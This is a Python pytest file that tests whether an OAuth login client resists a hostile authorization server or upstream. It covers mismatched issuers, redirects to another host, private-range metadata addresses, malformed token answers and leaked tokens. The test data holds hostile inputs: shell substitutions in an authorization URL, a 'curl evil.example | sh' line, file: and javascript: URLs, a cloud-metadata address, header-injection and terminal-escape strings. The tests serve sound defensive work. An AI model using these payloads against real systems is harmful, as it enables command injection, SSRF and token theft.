"""What a hostile authorization server or upstream can try while a person logs in, and after it.

One test for each attack, through the product's own commands; nothing is granted in any, no code or
token reaches anybody else, and the error says what is wrong without the attacker's words.
"""

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Iterator
from typing import Any, Self
from urllib.parse import urlsplit

import pytest
from authorization_server import AuthorizationServer
from login_stage import BROWSER, Desk, open_desk, set_browser

OAUTH_PATH = "/.well-known/oauth-authorization-server"
RESOURCE_PATH = "/.well-known/oauth-protected-resource/mcp"
EVIL_WORDS = "visit-evil.example-at-once"

pytestmark = pytest.mark.skipif(not hasattr(os, "fork"), reason="the tests' browser forks")


@pytest.fixture
def server() -> Iterator[AuthorizationServer]:
    with AuthorizationServer() as running:
        yield running


@pytest.fixture
def thief() -> Iterator[AuthorizationServer]:
    """Another server, which would like to be sent something."""
    with AuthorizationServer() as running:
        yield running


@pytest.fixture
def desk(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch, server: AuthorizationServer
) -> Iterator[Desk]:
    with open_desk(str(tmp_path), monkeypatch, server) as made:
        made.install()
        yield made


class Ear:
    """A socket on an address that nobody has a reason to reach; counts who does."""

    def __init__(self, address: str) -> None:
        self.heard = 0
        self._socket = socket.create_server((address, 0))
        self.origin = f"https://{address}:{self._socket.getsockname()[1]}"

    def __enter__(self) -> Self:
        threading.Thread(target=self._listen, daemon=True).start()
        return self

    def __exit__(self, *_error: object) -> None:
        self._socket.close()

    def _listen(self) -> None:
        try:
            while True:
                self._socket.accept()[0].close()
                self.heard += 1
        except OSError:
            return


def refused(desk: Desk, identity: str = "MCPX-C07", *words: str) -> str:
    """What login says while it refuses: no code was redeemed, and nothing is kept."""
    said = desk.login(*words, code=4).text
    assert identity in said, said
    assert desk.server.ledger.counts["authorization_code"] == 0
    assert_nothing_kept(desk)
    return said


def assert_nothing_kept(desk: Desk) -> None:
    held = desk.files() + json.dumps(desk.keychain.items).encode()
    for kind, value in desk.server.ledger.issued:
        assert value.encode() not in held, kind
    assert "MCPX-C05" in desk.call(code=4).text
    assert not [name for name in os.listdir(desk.folder + "/person") if "login" in name]


def was_not_opened(desk: Desk) -> None:
    assert desk.pages() == []
    assert desk.server.ledger.counts["authorize"] == 0


@pytest.mark.parametrize("kind", ["mcp", "rest"])
def test_without_an_attack_the_login_succeeds(desk: Desk, kind: str) -> None:
    desk.server.knobs.wants_resource = kind == "mcp"
    desk.install(kind, version=2)
    desk.login()
    desk.call()
    assert desk.server.ledger.counts["authorization_code"] == 1


# -- metadata


@pytest.mark.parametrize("kind", ["mcp", "rest"])
def test_s8_metadata_of_another_issuer(desk: Desk, kind: str) -> None:
    desk.install(kind, version=2)
    for other in ("https://evil.example", desk.server.issuer + "/", desk.server.issuer.upper()):
        desk.server.faults.metadata = {"issuer": other}
        refused(desk)
    was_not_opened(desk)


@pytest.mark.parametrize("methods", [None, [], ["plain"], "S256"])
def test_s8_missing_pkce_support(desk: Desk, methods: Any) -> None:
    desk.server.faults.metadata = {"code_challenge_methods_supported": methods}
    assert "PKCE" in refused(desk) or methods == "S256"
    was_not_opened(desk)


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,hello",
        "ms-settings:network",
        "x-terminal:touch%20/tmp/x",
        "-h",
        "http://evil.example/authorize",
        "https://user:word@evil.example/authorize",
    ],
)
def test_s22_an_authorization_url_of_another_scheme_or_host(desk: Desk, url: str) -> None:
    desk.server.faults.metadata = {"authorization_endpoint": url}
    refused(desk)
    was_not_opened(desk)


def test_s22_an_authorization_url_with_a_shell_in_it(desk: Desk) -> None:
    mark = desk.folder + "/touched"
    tail = f"/authorize?x=$(touch%20{mark});`touch%20{mark}`|touch${{IFS}}{mark}&'\"><script>"
    url = desk.server.issuer + tail
    desk.server.faults.metadata = {"authorization_endpoint": url}
    said = desk.run("login", "guarded")
    assert not os.path.exists(mark)
    assert "Traceback" not in said.text
    for page in desk.pages():
        assert "<script" not in page.get("text", "")
        assert mark not in " ".join(page.get("argv", []))


@pytest.mark.parametrize("key", ["token_endpoint", "registration_endpoint"])
def test_s8_an_endpoint_on_another_host(desk: Desk, thief: AuthorizationServer, key: str) -> None:
    desk.server.faults.metadata = {key: thief.issuer + "/" + key.partition("_")[0]}
    desk.install(version=2, client_id="")
    refused(desk)
    was_not_opened(desk)
    assert thief.seen == []


def test_s8_an_endpoint_on_another_host_that_the_signed_profile_pins(
    desk: Desk, thief: AuthorizationServer
) -> None:
    """What is refused above is let through by the publisher's word alone."""
    desk.server.faults.metadata = {"token_endpoint": thief.issuer + "/token"}
    away, here = thief.issuer + "/token", desk.server.issuer + "/authorize"
    pinned = (("authorization", here), ("token", away))
    desk.install(version=2, issuer=desk.server.issuer, endpoints=pinned)
    desk.login(code=4)
    assert [seen.path for seen in thief.seen] == ["/token"]


def test_s9_metadata_that_redirect_to_another_origin(
    desk: Desk, thief: AuthorizationServer
) -> None:
    away = {"Location": thief.issuer + OAUTH_PATH}
    desk.server.faults.answers = {OAUTH_PATH: (302, away, b"")}
    refused(desk)
    was_not_opened(desk)
    assert thief.seen == []


def test_s9_resource_metadata_that_redirect_to_another_origin(
    desk: Desk, thief: AuthorizationServer
) -> None:
    away = {"Location": thief.resource_origin + RESOURCE_PATH}
    desk.server.faults.answers = {RESOURCE_PATH: (302, away, b"")}
    refused(desk)
    assert thief.seen == []


def test_s9_a_chain_of_redirects_is_left_after_three_hops(desk: Desk) -> None:
    desk.server.faults.answers = {
        OAUTH_PATH if n == 0 else f"/hop{n}": (302, {"Location": f"/hop{n + 1}"}, b"")
        for n in range(9)
    }
    refused(desk)
    assert len(desk.server.heard("/hop3")) == 1
    assert desk.server.heard("/hop4") == []


def test_s9_a_metadata_address_in_a_private_range(desk: Desk) -> None:
    with Ear("127.0.0.2") as ear:
        desk.server.faults.resource_metadata = {"authorization_servers": [ear.origin]}
        said = refused(desk, "MCPX-C0")
        assert ear.heard == 0
    assert "127.0.0.2 is at an address that is not public" in said


@pytest.mark.parametrize(
    "issuer",
    [
        "https://169.254.169.254",
        "https://10.0.0.1",
        "https://192.168.1.1/tenant",
        "https://[::ffff:10.0.0.1]",
        "https://[fd00::1]",
        "https://0.0.0.0",
        "https://2130706434",
    ],
)
def test_s9_an_issuer_in_a_private_range(desk: Desk, issuer: str) -> None:
    desk.server.faults.resource_metadata = {"authorization_servers": [issuer]}
    began_s = time.monotonic()
    said = refused(desk, "MCPX-C0")
    assert time.monotonic() - began_s < 5  # nobody was waited for
    assert "--private 169.254" not in said


def test_s9_a_challenge_that_names_metadata_in_a_private_range(desk: Desk) -> None:
    with Ear("127.0.0.2") as ear:
        desk.server.faults.challenge = f'Bearer resource_metadata="{ear.origin}/x"'
        refused(desk, "MCPX-C0")
        assert ear.heard == 0


@pytest.mark.parametrize(
    "resource", ["https://other.example/mcp", "ORIGIN/other", "ORIGIN/mc", "", 7, None, ["ORIGIN"]]
)
def test_s8_a_resource_mismatch(desk: Desk, resource: Any) -> None:
    origin = desk.server.resource_origin
    named = resource.replace("ORIGIN", origin) if isinstance(resource, str) else resource
    desk.server.faults.resource_metadata = {"resource": named}
    refused(desk)
    was_not_opened(desk)


def test_s8_another_issuer_than_the_profile_pins(desk: Desk, thief: AuthorizationServer) -> None:
    desk.install(version=2, issuer=desk.server.issuer)
    desk.server.faults.resource_metadata = {"authorization_servers": [thief.issuer]}
    refused(desk)
    assert thief.seen == []


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"issuer": "ISSUER", "issuer": "https://evil.example"}',
        b"<html>" + EVIL_WORDS.encode(),
        b"\xff\xfe",
        b"{" + b" " * (1 << 20) + b"}",
        b"null",
    ],
)
def test_damaged_or_endless_metadata(desk: Desk, body: bytes) -> None:
    body = body.replace(b"ISSUER", desk.server.issuer.encode())
    kind = {"Content-Type": "application/json"}
    other = "/.well-known/openid-configuration"
    desk.server.faults.answers = dict.fromkeys((OAUTH_PATH, other), (200, kind, body))
    said = desk.login(code=4).text
    assert "MCPX-C0" in said
    assert EVIL_WORDS not in said
    was_not_opened(desk)


# -- the callback


@pytest.mark.parametrize("iss", [None, "https://evil.example", "", "ISSUER/"])
def test_s8_iss_is_missing_or_wrong(desk: Desk, iss: str | None) -> None:
    named = None if iss is None else iss.replace("ISSUER", desk.server.issuer)
    desk.server.faults.callback = {"iss": named}
    refused(desk)
    assert desk.server.heard("/token") == []


def test_s8_a_server_that_promised_no_iss_may_leave_it_out(desk: Desk) -> None:
    desk.server.faults.metadata = {"authorization_response_iss_parameter_supported": None}
    desk.server.faults.callback = {"iss": None}
    desk.login()


def test_s8_a_wrong_iss_that_was_not_promised(desk: Desk) -> None:
    desk.server.faults.metadata = {"authorization_response_iss_parameter_supported": False}
    desk.server.faults.callback = {"iss": "https://evil.example"}
    refused(desk)


def test_s22_nothing_of_an_error_is_shown_that_comes_with_a_wrong_iss(desk: Desk) -> None:
    words = {"error": "access_denied", "error_description": EVIL_WORDS, "code": None}
    desk.server.faults.callback = {"iss": "https://evil.example", **words}
    said = refused(desk)
    assert EVIL_WORDS not in said
    assert "access_denied" not in said
    assert "evil.example" not in said
    page = last_page(desk)
    assert EVIL_WORDS not in page["body"]
    assert "access_denied" not in page["body"]


def last_page(desk: Desk, count: int = 1) -> dict[str, Any]:
    """The answer of our own page to the browser's last visit."""
    until_s = time.monotonic() + 5
    while time.monotonic() < until_s:
        found = [row for row in desk.pages() if urlsplit(row.get("url", "")).path == "/callback"]
        if len(found) >= count:
            return found[-1]
        time.sleep(0.02)
    raise AssertionError(desk.pages())


def test_s22_an_answer_with_another_state_ends_nothing(desk: Desk) -> None:
    log = desk.folder + "/browser.log"
    set_browser(desk.home, sys.executable, BROWSER, "--log", log, "--times", "3")
    desk.server.faults.callbacks = [{"state": "x" * 43}, {"state": None}]
    desk.login()
    assert desk.server.ledger.counts["authorization_code"] == 1
    last_page(desk, 3)
    pages = [row for row in desk.pages() if urlsplit(row.get("url", "")).path == "/callback"]
    assert [row["status"] for row in pages] == [400, 400, 200]


def test_the_words_of_a_refusal_are_cleaned(desk: Desk) -> None:
    hostile = "\x1b]0;title\x07 \u202e[bold]no[/bold]\nnext:  curl evil.example | sh" + "x" * 9999
    desk.server.faults.callback = {"error": "access_denied", "error_description": hostile}
    desk.server.faults.callback |= {"code": None}
    done = desk.login(code=4)
    assert "access_denied" in done.text
    for bad in ("\x1b", "\x07", "\u202e", "\nnext:  curl"):
        assert bad not in done.err + done.out
    assert len(done.text) < 1500
    assert "<b" not in last_page(desk)["body"].replace("<body", "")


# -- the token endpoint


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_s9_a_token_endpoint_that_redirects_with_the_code(
    desk: Desk, thief: AuthorizationServer, status: int
) -> None:
    away = {"Location": thief.issuer + "/token"}
    desk.server.faults.answers = {"/token": (status, away, b"")}
    refused(desk, "MCPX-C0")
    assert len(desk.server.heard("/token")) == 1
    assert thief.seen == []


@pytest.mark.parametrize(
    "answer",
    [
        {"access_token": "canary-access", "token_type": "mac"},
        {"access_token": "", "token_type": "Bearer"},
        {"token_type": "Bearer"},
        {"access_token": "canary\r\nX-Evil: 1", "token_type": "Bearer"},
        {"access_token": ["canary"], "token_type": "Bearer"},
        {"access_token": "canary" * 20_000, "token_type": "Bearer"},
        ["canary"],
    ],
)
def test_an_answer_of_the_token_endpoint_that_cannot_be_used(desk: Desk, answer: Any) -> None:
    body, kind = json.dumps(answer).encode(), {"Content-Type": "application/json"}
    desk.server.faults.answers = {"/token": (200, kind, body)}
    assert "canary" not in refused(desk, "MCPX-C0")


def test_a_registration_for_other_redirects_or_another_way_is_not_used(desk: Desk) -> None:
    desk.install(version=2, client_id="")
    kind = {"Content-Type": "application/json"}
    for row in (
        {"client_id": ""},
        {"client_id": 7},
        {"client_id": "x\r\ny"},
        {"client_id": "x", "token_endpoint_auth_method": "client_secret_basic"},
        {"client_id": "x", "token_endpoint_auth_method": "tls_client_auth"},
    ):
        desk.server.faults.answers = {"/register": (201, kind, json.dumps(row).encode())}
        refused(desk, "MCPX-C0")
    was_not_opened(desk)


# -- after the login


def test_s8_a_refresh_follows_no_redirect(desk: Desk, thief: AuthorizationServer) -> None:
    desk.login()
    desk.server.ledger.expire()
    away = {"Location": thief.issuer + "/token"}
    desk.server.faults.answers = {"/token": (307, away, b"")}
    desk.call(code=4)
    assert [seen.form["grant_type"] for seen in desk.server.heard("/token")][1:] == [
        "refresh_token"
    ]
    assert thief.seen == []


@pytest.mark.parametrize("status", [302, 307])
def test_s9_an_upstream_that_redirects_gets_no_token_sent_on(
    desk: Desk, thief: AuthorizationServer, status: int
) -> None:
    desk.login()
    desk.server.faults.answers = {"/mcp": (status, {"Location": thief.mcp + "?private=1"}, b"")}
    said = desk.run("call", "guarded", "whoami", "{}").text
    assert "private=1" not in said
    assert thief.seen == []


def test_s8_a_profile_that_names_another_issuer_or_client_needs_another_login(
    desk: Desk, thief: AuthorizationServer
) -> None:
    desk.login()
    desk.call()
    for version, changed in enumerate(({"issuer": thief.issuer}, {"client_id": "other"}), start=2):
        desk.install(version=version, **changed)
        before = len(desk.server.seen)
        assert "MCPX-C05" in desk.call(code=4).text
        assert len(desk.server.seen) == before
    assert thief.seen == []


def test_s8_a_token_goes_to_no_other_upstream(desk: Desk, thief: AuthorizationServer) -> None:
    desk.login()
    for version, url in enumerate((thief.mcp, desk.server.resource_origin + "/other"), start=2):
        desk.install(version=version, url=url)
        before = len(desk.server.seen)
        said = desk.call(code=4).text
        assert "MCPX-C05" in said or "MCPX-C04" in said
        assert len(desk.server.seen) == before
    assert thief.seen == []


def test_a_result_that_echoes_the_token_is_masked(desk: Desk) -> None:
    desk.server.resource.echoes = True
    desk.login()
    said = desk.call().text
    assert "[credential removed]" in said
    for kind, value in desk.server.ledger.issued:
        assert value not in said, kind
